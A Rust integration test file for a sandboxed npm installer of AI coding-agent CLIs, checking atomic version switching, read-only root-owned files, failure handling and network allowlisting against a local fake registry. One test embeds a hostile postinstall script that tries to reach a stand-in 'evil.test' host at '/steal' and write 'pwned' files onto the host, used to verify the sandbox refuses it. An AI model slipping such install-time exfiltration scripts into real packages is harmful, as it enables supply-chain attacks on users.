//! `moat agents install`: the sandbox template of agent CLIs, built with npm
//! inside a sandbox whose door allows only the package registry.
//!
//! Every test drives the real `moat` binary against a fake npm registry of
//! its own (tests/registrykit: plain HTTP on 127.0.0.1, under a name pinned
//! with `--resolve`) and never contacts the public registry. The packages are
//! made here with `npm pack` (npm and node must be installed under /usr, as
//! the install needs them too).
//!
//! What they check: a CLI lands in DIR/current/bin and runs, on the host and
//! in a sandbox that mounts DIR/current read-only at /opt/moat-agents (the
//! gateway's contract); the files belong to root and nobody else may write
//! them; an install script that tries another host is refused by the door
//! (recorded in the audit log, the other host sees nothing, nothing is
//! switched); `current` switches atomically (a reader never misses it) and
//! two versions are kept; a failed install (404, unreachable registry)
//! changes nothing and leaves no scratch directory.
//!
//! The slower test, `slow_default_packages_from_a_local_registry`, installs
//! stand-ins named like the real default packages (Claude Code, Codex, Amp at
//! the pinned versions) from the local fake registry — still no internet.

mod netkit;
mod registrykit;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Instant;

use netkit::{random_hex, Audit, Backend, Out, Upstream};
use registrykit::{make_package, FakeRegistry};
use serde_json::{json, Value};

/// The registry's name inside the door's allowlist; pinned to 127.0.0.1.
const REGISTRY_HOST: &str = "registry.test";

const SETUP: &str = include_str!("../../../scripts/setup");
const AGENTS_CMD: &str = include_str!("../src/agents_cmd.rs");

/// `NAME=value` from scripts/setup.
fn setup_value(name: &str) -> String {
    SETUP
        .lines()
        .find_map(|l| l.trim().strip_prefix(&format!("{name}=")))
        .map(|v| v.trim_matches('"').to_string())
        .unwrap_or_else(|| panic!("scripts/setup has no {name}= line"))
}

/// `pub const NAME: &str = "value";` from agents_cmd.rs (what the binary pins).
fn pinned(name: &str) -> String {
    AGENTS_CMD
        .lines()
        .find_map(|l| {
            l.trim()
                .strip_prefix(&format!("pub const {name}: &str = \""))
        })
        .and_then(|rest| rest.strip_suffix("\";"))
        .unwrap_or_else(|| panic!("agents_cmd.rs has no pub const {name}"))
        .to_string()
}

/// One test's world: its data and runtime directories (so its audit log is
/// its own), the template directory, and package sources.
struct World {
    _tmp: tempfile::TempDir,
    dir: PathBuf,
    template: PathBuf,
    backend: Backend,
}

impl World {
    fn new(name: &str, backend: Backend) -> World {
        // Its own temporary directory (removed with it), traversable by
        // sandbox uids: bwrap runs as one when it binds the template.
        let tmp = tempfile::Builder::new()
            .prefix(&format!("moat-agents-test-{name}-{}-", backend.name()))
            .tempdir()
            .expect("a temporary directory");
        std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
        World {
            template: tmp.path().join("agents"),
            dir: tmp.path().to_path_buf(),
            _tmp: tmp,
            backend,
        }
    }

    fn install(&self, registry: &str, extra: &[&str], packages: &[&str]) -> Out {
        let mut c = Command::new(env!("CARGO_BIN_EXE_moat"));
        c.env("MOAT_DATA_DIR", self.dir.join("data"))
            .env("MOAT_RUNTIME_DIR", self.dir.join("run"))
            .env_remove("MOAT_LOG")
            .stdin(Stdio::null())
            .args(["agents", "install", "--dir"])
            .arg(&self.template)
            .args(["--backend", self.backend.name(), "--timeout", "120s"])
            .args(["--registry", registry])
            .args(["--resolve", &format!("{REGISTRY_HOST}=127.0.0.1")])
            .args(extra);
        for p in packages {
            c.args(["--package", p]);
        }
        let o = c.output().expect("running moat");
        Out {
            code: o.status.code(),
            stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
        }
    }

    fn audit(&self) -> Audit {
        let p = self.dir.join("data").join("audit").join("audit.jsonl");
        Audit::from_text(std::fs::read_to_string(p).unwrap_or_default())
    }

    /// The version `current` points at.
    fn current(&self) -> Option<String> {
        std::fs::read_link(self.template.join("current"))
            .ok()
            .map(|t| t.to_string_lossy().into_owned())
    }

    /// Version directories (not `current`, not dot-files), sorted.
    fn versions(&self) -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(&self.template)
            .map(|it| {
                it.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|n| !n.starts_with('.') && n != "current")
                    .collect()
            })
            .unwrap_or_default();
        v.sort();
        v
    }

    /// Asserts the template directory holds no scratch directory.
    fn assert_no_staging(&self) {
        let left: Vec<String> = std::fs::read_dir(&self.template)
            .map(|it| {
                it.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|n| n.starts_with(".new-") || n.starts_with(".current-"))
                    .collect()
            })
            .unwrap_or_default();
        assert!(left.is_empty(), "scratch left in the template: {left:?}");
    }
}

fn registry_with(world: &World, packages: &[(&str, &str, &str)]) -> FakeRegistry {
    let reg = FakeRegistry::start(REGISTRY_HOST);
    let src = world.dir.join("src");
    for (name, version, command) in packages {
        reg.publish(&make_package(&src, name, version, command, json!({}), &[]));
    }
    reg
}

fn assert_ok(out: &Out, what: &str) {
    assert_eq!(out.code, Some(0), "{what} failed: {out:?}");
}

/// Runs a program on the host and returns its stdout.
fn host_run(path: &Path, arg: &str) -> String {
    let o = Command::new(path)
        .arg(arg)
        .output()
        .unwrap_or_else(|e| panic!("running {}: {e}", path.display()));
    assert!(o.status.success(), "{} {arg}: {o:?}", path.display());
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

/// Every file of `dir` belongs to root and nobody else may write it (no
/// set-id bit either).
fn assert_sealed(dir: &Path) {
    let mut stack = vec![dir.to_path_buf()];
    let mut n = 0;
    while let Some(p) = stack.pop() {
        let m = std::fs::symlink_metadata(&p).unwrap();
        n += 1;
        assert_eq!((m.uid(), m.gid()), (0, 0), "{} is not root's", p.display());
        if m.file_type().is_symlink() {
            continue;
        }
        assert_eq!(
            m.mode() & 0o7022,
            0,
            "{} has mode {:o}",
            p.display(),
            m.mode()
        );
        if m.is_dir() {
            for e in std::fs::read_dir(&p).unwrap() {
                stack.push(e.unwrap().path());
            }
        }
    }
    assert!(n > 3, "{} is nearly empty", dir.display());
}

/// Runs `argv` in a sandbox that mounts DIR/current read-only at `at`, as
/// the gateway does (at its own path).
fn run_in_template_sandbox(world: &World, at: &str, argv: &[&str]) -> Out {
    let policy = world.dir.join("policy.toml");
    std::fs::write(
        &policy,
        format!(
            "[filesystem]\nallowed_roots = [{:?}]\n",
            world.template.display().to_string()
        ),
    )
    .unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_moat"))
        .env("MOAT_DATA_DIR", world.dir.join("data"))
        .env("MOAT_RUNTIME_DIR", world.dir.join("run"))
        .stdin(Stdio::null())
        .args(["sandbox", "run", "--backend", world.backend.name()])
        .arg("--policy")
        .arg(&policy)
        .arg("--mount")
        .arg(format!("{}:{at}", world.template.join("current").display()))
        .arg("--")
        .args(argv)
        .output()
        .expect("running moat sandbox run");
    Out {
        code: o.status.code(),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

/// The template pins the same Claude Code and Codex versions that
/// scripts/setup installs on the host for the other tests.
#[test]
fn pins_agree_with_scripts_setup() {
    assert_eq!(
        pinned("CLAUDE_CODE_VERSION"),
        setup_value("CLAUDE_CODE_VERSION"),
        "Claude Code: agents_cmd.rs and scripts/setup pin different versions"
    );
    assert_eq!(
        pinned("CODEX_VERSION"),
        setup_value("CODEX_VERSION"),
        "Codex: agents_cmd.rs and scripts/setup pin different versions"
    );
    assert_eq!(
        pinned("PI_VERSION"),
        setup_value("PI_VERSION"),
        "Pi: agents_cmd.rs and scripts/setup pin different versions"
    );
    assert!(!pinned("AMP_VERSION").is_empty());
}

fn install_puts_a_working_cli_in_current(b: Backend) {
    let world = World::new("basic", b);
    let reg = registry_with(&world, &[("tinycli", "1.0.0", "tinycli")]);
    let t = Instant::now();
    let out = world.install(&reg.url(), &[], &["tinycli@1.0.0"]);
    let took = t.elapsed();
    assert_ok(&out, "the install");
    eprintln!("install of one tiny package ({}): {took:?}", b.name());
    assert!(
        out.stdout.contains("tinycli 1.0.0")
            && out
                .stdout
                .contains("/opt/moat-agents/bin/tinycli: tinycli 1.0.0"),
        "the summary lacks the package and its check: {out:?}"
    );

    // current -> a version directory holding the CLI.
    let id = world.current().expect("no current symlink");
    assert_eq!(world.versions(), vec![id.clone()]);
    assert!(
        out.stdout.contains(&id),
        "the summary does not say where: {out:?}"
    );
    let bin = world.template.join("current/bin/tinycli");
    assert!(bin.exists(), "{} missing", bin.display());
    assert_eq!(host_run(&bin, "--version"), "tinycli 1.0.0");
    assert_sealed(&world.template.join(&id));
    let manifest: Value = serde_json::from_slice(
        &std::fs::read(world.template.join("current/moat-template.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(manifest["version_id"], id.as_str());
    assert_eq!(manifest["packages"][0]["name"], "tinycli");
    assert_eq!(manifest["packages"][0]["version"], "1.0.0");
    world.assert_no_staging();

    // npm asked the fake registry (through the door) for both documents.
    let reqs = reg.requests();
    assert!(reqs.iter().any(|r| r == "GET /tinycli"), "{reqs:?}");
    assert!(
        reqs.iter().any(|r| r == "GET /tinycli/-/tinycli-1.0.0.tgz"),
        "{reqs:?}"
    );
    let audit = world.audit();
    assert!(
        audit
            .records
            .iter()
            .any(|r| r["host"] == REGISTRY_HOST && r["verdict"] == "allowed"),
        "no allowed record for the registry:\n{}",
        audit.text
    );
    assert!(
        audit.records.iter().any(|r| r["kind"] == "agents_install"
            && r["version_id"] == id.as_str()
            && r["packages"][0] == "tinycli@1.0.0"),
        "no agents_install record:\n{}",
        audit.text
    );
    assert!(
        !audit.records.iter().any(|r| r["verdict"] == "denied"),
        "something was refused:\n{}",
        audit.text
    );

    // The gateway's view: DIR/current read-only, at the install prefix or
    // anywhere else.
    for at in ["/opt/moat-agents", "/srv/agents"] {
        let o = run_in_template_sandbox(
            &world,
            at,
            &[
                "/bin/sh",
                "-c",
                &format!("{at}/bin/tinycli; touch {at}/x 2>/dev/null && echo WRITABLE; exit 0"),
            ],
        );
        assert_eq!(o.code, Some(0), "{o:?}");
        assert!(o.stdout.contains("hello from tinycli 1.0.0"), "{at}: {o:?}");
        assert!(
            !o.stdout.contains("WRITABLE"),
            "the template is writable inside: {o:?}"
        );
    }
}

/// A package that only works where it was installed (its install script
/// records an absolute path) is refused: the gateway mounts the template at
/// its own path. Nothing is switched or left behind.
#[test]
fn prefix_dependent_package_is_refused() {
    let world = World::new("prefix", Backend::Bwrap);
    let reg = FakeRegistry::start(REGISTRY_HOST);
    let cli = "#!/usr/bin/env node\n\
const fs = require('fs');\n\
const home = fs.readFileSync(__dirname + '/where.txt', 'utf8').trim();\n\
const p = JSON.parse(fs.readFileSync(home + '/package.json', 'utf8'));\n\
console.log(p.name + ' ' + p.version);\n";
    let gen = "require('fs').writeFileSync(__dirname + '/where.txt', __dirname);\n";
    reg.publish(&make_package(
        &world.dir.join("src"),
        "pinned",
        "1.0.0",
        "pinned",
        json!({ "postinstall": "node gen.js" }),
        &[("cli.js", cli), ("gen.js", gen)],
    ));
    let out = world.install(&reg.url(), &[], &["pinned@1.0.0"]);
    assert_eq!(out.code, Some(1), "{out:?}");
    assert!(
        out.stderr
            .contains("pinned@1.0.0 works at /opt/moat-agents but not when mounted elsewhere")
            && out
                .stderr
                .contains("/opt/moat-agents-moved/bin/pinned --version failed"),
        "{out:?}"
    );
    assert_eq!(world.current(), None);
    assert!(world.versions().is_empty(), "{:?}", world.versions());
    world.assert_no_staging();
}

#[test]
fn bwrap_install_puts_a_working_cli_in_current() {
    install_puts_a_working_cli_in_current(Backend::Bwrap);
}

#[test]
fn gvisor_install_puts_a_working_cli_in_current() {
    if !Backend::Gvisor.available() {
        return;
    }
    install_puts_a_working_cli_in_current(Backend::Gvisor);
}

/// What a reader through `current` saw: reads, versions (in order), failures.
type Reads = (u64, Vec<String>, Vec<String>);

/// A second install switches `current` with one rename (a reader looking
/// through it all along never misses it), keeps the first version; a third
/// removes the oldest (two are kept).
#[test]
fn switch_is_atomic_and_keeps_two_versions() {
    let world = World::new("switch", Backend::Bwrap);
    let reg = registry_with(
        &world,
        &[
            ("tinycli", "1.0.0", "tinycli"),
            ("tinycli", "1.1.0", "tinycli"),
            ("tinycli", "1.2.0", "tinycli"),
        ],
    );
    assert_ok(
        &world.install(&reg.url(), &[], &["tinycli@1.0.0"]),
        "install 1",
    );
    let v1 = world.current().unwrap();

    // A reader through `current` for the whole second install.
    let stop = Arc::new(AtomicBool::new(false));
    let seen: Arc<Mutex<Reads>> = Arc::default();
    let reader = {
        let (stop, seen) = (stop.clone(), seen.clone());
        let file = world
            .template
            .join("current/lib/node_modules/tinycli/package.json");
        std::thread::spawn(move || {
            while !stop.load(Ordering::SeqCst) {
                let r = std::fs::read(&file)
                    .map_err(|e| e.to_string())
                    .and_then(|b| serde_json::from_slice::<Value>(&b).map_err(|e| e.to_string()));
                let mut s = seen.lock().unwrap();
                s.0 += 1;
                match r {
                    Ok(v) => {
                        let ver = v["version"].as_str().unwrap_or("?").to_string();
                        if !s.1.contains(&ver) {
                            s.1.push(ver);
                        }
                    }
                    Err(e) => s.2.push(e),
                }
            }
        })
    };
    let out = world.install(&reg.url(), &[], &["tinycli@1.1.0"]);
    // Keep reading a little after the switch.
    std::thread::sleep(std::time::Duration::from_millis(200));
    stop.store(true, Ordering::SeqCst);
    reader.join().unwrap();
    assert_ok(&out, "install 2");
    let v2 = world.current().unwrap();
    assert_ne!(v1, v2);
    let (reads, versions, failures) = seen.lock().unwrap().clone();
    assert!(
        failures.is_empty(),
        "a reader of current failed: {failures:?}"
    );
    assert!(reads > 100, "only {reads} reads");
    assert_eq!(versions, vec!["1.0.0", "1.1.0"], "seen through current");
    assert!(
        out.stdout
            .contains(&format!("previous version {v1} is kept")),
        "{out:?}"
    );

    // Both versions are there, the old one intact.
    assert_eq!(world.versions(), vec![v1.clone(), v2.clone()]);
    assert_eq!(
        host_run(&world.template.join(&v1).join("bin/tinycli"), "--version"),
        "tinycli 1.0.0"
    );
    assert_eq!(
        host_run(&world.template.join("current/bin/tinycli"), "--version"),
        "tinycli 1.1.0"
    );

    // A third: the oldest goes.
    let out = world.install(&reg.url(), &[], &["tinycli@1.2.0"]);
    assert_ok(&out, "install 3");
    let v3 = world.current().unwrap();
    assert_eq!(world.versions(), vec![v2.clone(), v3.clone()]);
    assert!(
        out.stdout
            .contains(&format!("removed the old version {v1}")),
        "{out:?}"
    );
    world.assert_no_staging();
}

/// An install script that fetches from another host (pinned with --resolve,
/// so only the allowlist stops it) is refused by the door, every way it
/// tries: through the proxy, by name, by address. The script treats that as
/// fatal, so the install fails: nothing is switched or left behind, the other
/// host saw no connection, the audit log has the refusal, and the script's
/// writes to host paths went nowhere.
#[test]
fn install_script_reaching_another_host_is_refused() {
    let world = World::new("evil", Backend::Bwrap);
    let evil = Upstream::loopback();
    let tag = random_hex(8);
    let host_file = world.dir.join(format!("pwned-{tag}"));
    let usr_file = format!("/usr/lib/moat-pwned-{tag}");
    let script = r#"
const http = require('http'), net = require('net'), fs = require('fs');
const PORT = __PORT__;
let ok = false, pending = 3;
function attempt(what) {
  let over = false;
  return (good, detail) => {
    if (over) return; over = true;
    console.log(`sneaky: ${what}: ${good ? 'reached' : 'failed'} ${detail}`);
    ok = ok || good;
    if (--pending === 0) finish();
  };
}
function finish() {
  for (const p of ['__HOSTFILE__', '__USRFILE__']) {
    try { fs.writeFileSync(p, 'pwned'); console.log('sneaky: wrote ' + p); ok = true; }
    catch (e) { console.log('sneaky: write ' + p + ': ' + e.code); }
  }
  if (!ok) { console.error('sneaky: could not fetch the payload'); process.exit(1); }
}
const viaProxy = attempt('proxy');
const proxy = new URL(process.env.HTTP_PROXY || 'http://127.0.0.1:3128');
const r = http.request({ host: proxy.hostname, port: proxy.port, path: `http://evil.test:${PORT}/steal`,
  headers: { Host: `evil.test:${PORT}` }, timeout: 10000 }, res => { res.resume(); viaProxy(res.statusCode === 200, 'status ' + res.statusCode); });
r.on('error', e => viaProxy(false, e.code)); r.on('timeout', () => r.destroy(new Error('timeout'))); r.end();
for (const [what, host] of [['name', 'evil.test'], ['address', '127.0.0.1']]) {
  const done = attempt(what);
  const c = net.connect({ host, port: PORT, timeout: 10000 }, () => { c.end(); done(true, 'connected'); });
  c.on('error', e => done(false, e.code)); c.on('timeout', () => { c.destroy(); done(false, 'timeout'); });
}
"#
    .replace("__PORT__", &evil.port.to_string())
    .replace("__HOSTFILE__", &host_file.display().to_string())
    .replace("__USRFILE__", &usr_file);
    let reg = FakeRegistry::start(REGISTRY_HOST);
    reg.publish(&make_package(
        &world.dir.join("src"),
        "sneaky",
        "1.0.0",
        "sneaky",
        json!({ "postinstall": "node install.js" }),
        &[("install.js", &script)],
    ));

    let out = world.install(
        &reg.url(),
        &["--resolve", "evil.test=127.0.0.1"],
        &["sneaky@1.0.0"],
    );
    assert_eq!(out.code, Some(1), "the install did not fail: {out:?}");
    // The script ran and every way out failed.
    for line in [
        "sneaky: proxy: failed status 403",
        "sneaky: name: failed",
        "sneaky: address: failed",
        "sneaky: could not fetch the payload",
    ] {
        assert!(out.stderr.contains(line), "{line:?} not in {out:?}");
    }
    assert!(
        out.stderr
            .contains("the door refused (install scripts may reach the registry only")
            && out.stderr.contains(&format!(
                "evil.test:{} (evil.test is not on the allowlist)",
                evil.port
            ))
            && out.stderr.contains("DNS evil.test ("),
        "moat does not name the refusal: {out:?}"
    );
    assert!(out.stderr.contains("nothing was changed"), "{out:?}");

    // The other host saw nothing; the door recorded the refusal.
    evil.assert_untouched("an install script");
    let audit = world.audit();
    assert!(
        audit
            .records
            .iter()
            .any(|r| r["host"] == "evil.test" && r["verdict"] == "denied"),
        "no denied record for evil.test:\n{}",
        audit.text
    );
    assert!(
        !audit
            .records
            .iter()
            .any(|r| r["host"] == "evil.test" && r["verdict"] == "allowed"),
        "evil.test was allowed:\n{}",
        audit.text
    );

    // The host is unchanged.
    assert!(!host_file.exists(), "{} was written", host_file.display());
    assert!(!Path::new(&usr_file).exists(), "{usr_file} was written");
    assert_eq!(world.current(), None);
    assert!(world.versions().is_empty(), "{:?}", world.versions());
    world.assert_no_staging();
}

/// A package the registry does not have (404): the install fails saying so,
/// `current` and the versions are untouched, no scratch is left.
#[test]
fn failed_install_leaves_current_untouched() {
    let world = World::new("fail", Backend::Bwrap);
    let reg = registry_with(&world, &[("tinycli", "1.0.0", "tinycli")]);
    assert_ok(
        &world.install(&reg.url(), &[], &["tinycli@1.0.0"]),
        "install 1",
    );
    let before = (world.current(), world.versions());

    let out = world.install(&reg.url(), &[], &["missing@1.0.0"]);
    assert_eq!(out.code, Some(1), "{out:?}");
    assert!(
        out.stderr.contains("does not have missing@1.0.0") && out.stderr.contains("404"),
        "the error does not say what is missing: {out:?}"
    );
    assert!(reg.requests().iter().any(|r| r == "GET /missing"));
    assert_eq!((world.current(), world.versions()), before);
    assert_eq!(
        host_run(&world.template.join("current/bin/tinycli"), "--version"),
        "tinycli 1.0.0"
    );
    world.assert_no_staging();
}

/// A registry nobody answers for: the error names the registry and what to
/// check. (About 13 s: npm retries twice.)
#[test]
fn unreachable_registry_is_named() {
    let world = World::new("unreachable", Backend::Bwrap);
    // A port nothing listens on.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let url = format!("http://{REGISTRY_HOST}:{port}/");
    let out = world.install(&url, &[], &["tinycli@1.0.0"]);
    assert_eq!(out.code, Some(1), "{out:?}");
    assert!(
        out.stderr
            .contains(&format!("could not reach the registry {url}"))
            && out
                .stderr
                .contains("check --registry and that the door allows it"),
        "{out:?}"
    );
    assert_eq!(world.current(), None);
    assert!(world.versions().is_empty());
    world.assert_no_staging();
}

/// Bad flags fail before anything is created.
#[test]
fn bad_flags_are_refused_up_front() {
    let world = World::new("flags", Backend::Bwrap);
    for (extra, pkgs, want) in [
        (vec![], vec!["github:evil/x@1"], "not an npm package name"),
        (vec![], vec!["tinycli"], "NAME@VERSION"),
        (
            vec!["--backend", "local"],
            vec!["tinycli@1.0.0"],
            "choose bwrap or gvisor",
        ),
    ] {
        let args: Vec<&str> = extra.clone();
        let mut c = Command::new(env!("CARGO_BIN_EXE_moat"));
        c.env("MOAT_DATA_DIR", world.dir.join("data"))
            .env("MOAT_RUNTIME_DIR", world.dir.join("run"))
            .args(["agents", "install", "--dir"])
            .arg(&world.template)
            .args(["--registry", "http://registry.test:1/"])
            .args(&args);
        for p in &pkgs {
            c.args(["--package", p]);
        }
        let o = c.output().unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(1), "{extra:?} {pkgs:?}: {err}");
        assert!(err.contains(want), "{extra:?} {pkgs:?}: {err}");
    }
    let o = Command::new(env!("CARGO_BIN_EXE_moat"))
        .args(["agents", "install", "--dir"])
        .arg(&world.template)
        .args(["--registry", "https://user:secret@registry.npmjs.org/"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("user or password"), "{err}");
    assert!(
        !world.template.exists(),
        "the template directory was created"
    );
}

/// SLOWER (four packages): without --package, moat installs Claude Code,
/// Codex, Amp and Pi at its pinned versions. Stand-ins under those names and
/// versions come from the local fake registry (never the public one); the
/// commands land where the gateway expects them:
/// /opt/moat-agents/bin/{claude,codex,amp,pi}.
#[test]
fn slow_default_packages_from_a_local_registry() {
    let world = World::new("defaults", Backend::Bwrap);
    let claude = setup_value("CLAUDE_CODE_VERSION");
    let codex = setup_value("CODEX_VERSION");
    let amp = pinned("AMP_VERSION");
    let pi = pinned("PI_VERSION");
    let reg = registry_with(
        &world,
        &[
            ("@anthropic-ai/claude-code", &claude, "claude"),
            ("@openai/codex", &codex, "codex"),
            ("@ampcode/cli", &amp, "amp"),
            ("@mariozechner/pi-coding-agent", &pi, "pi"),
        ],
    );
    let t = Instant::now();
    let out = world.install(&reg.url(), &[], &[]);
    assert_ok(&out, "the default install");
    eprintln!("install of the four default stand-ins: {:?}", t.elapsed());
    for (name, version, command) in [
        ("@anthropic-ai/claude-code", &claude, "claude"),
        ("@openai/codex", &codex, "codex"),
        ("@ampcode/cli", &amp, "amp"),
        ("@mariozechner/pi-coding-agent", &pi, "pi"),
    ] {
        assert!(out.stdout.contains(&format!("{name} {version}")), "{out:?}");
        let bin = world.template.join("current/bin").join(command);
        assert_eq!(host_run(&bin, "--version"), format!("{name} {version}"));
    }
    let reqs = reg.requests();
    for path in [
        "GET /@anthropic-ai%2fclaude-code",
        "GET /@openai%2fcodex",
        "GET /@ampcode%2fcli",
        "GET /@mariozechner%2fpi-coding-agent",
    ] {
        assert!(
            reqs.iter().any(|r| r.eq_ignore_ascii_case(path)),
            "{path} not requested: {reqs:?}"
        );
    }
    let o = run_in_template_sandbox(
        &world,
        "/opt/moat-agents",
        &[
            "/bin/sh",
            "-c",
            "for c in claude codex amp pi; do /opt/moat-agents/bin/$c --version; done",
        ],
    );
    assert_eq!(o.code, Some(0), "{o:?}");
    assert_eq!(
        o.stdout.lines().collect::<Vec<_>>(),
        vec![
            format!("@anthropic-ai/claude-code {claude}"),
            format!("@openai/codex {codex}"),
            format!("@ampcode/cli {amp}"),
            format!("@mariozechner/pi-coding-agent {pi}"),
        ]
    );
}
